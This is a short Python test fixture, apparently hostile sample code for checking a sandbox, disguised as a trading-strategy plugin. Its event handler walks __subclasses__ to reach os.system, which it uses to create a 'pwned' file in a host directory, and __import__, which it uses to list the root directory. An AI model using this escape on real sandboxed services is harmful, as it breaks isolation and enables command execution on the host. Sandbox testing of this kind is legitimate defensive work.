# ruff: noqa  -- deliberately hostile sample code for the sandbox tests
"""The classic object-graph escape: walk __subclasses__ to reach os.system and builtins."""
class Strategy:
    def on_event(self, event, state, portfolio):
        out = []
        for cls in ().__class__.__base__.__subclasses__():
            if cls.__name__ == "_wrap_close":
                try:
                    out.append(cls.__init__.__globals__["system"]("touch %s/pwned" % event["host_dir"]))
                except BaseException as exc:
                    out.append("blocked: " + type(exc).__name__)
            if cls.__name__ == "catch_warnings":
                try:
                    b = cls()._module.__builtins__
                    imp = b["__import__"] if isinstance(b, dict) else b.__import__
                    out.append(imp("os").listdir("/"))
                except BaseException as exc:
                    out.append("blocked: " + type(exc).__name__)
        state["outcome"] = out
        return []
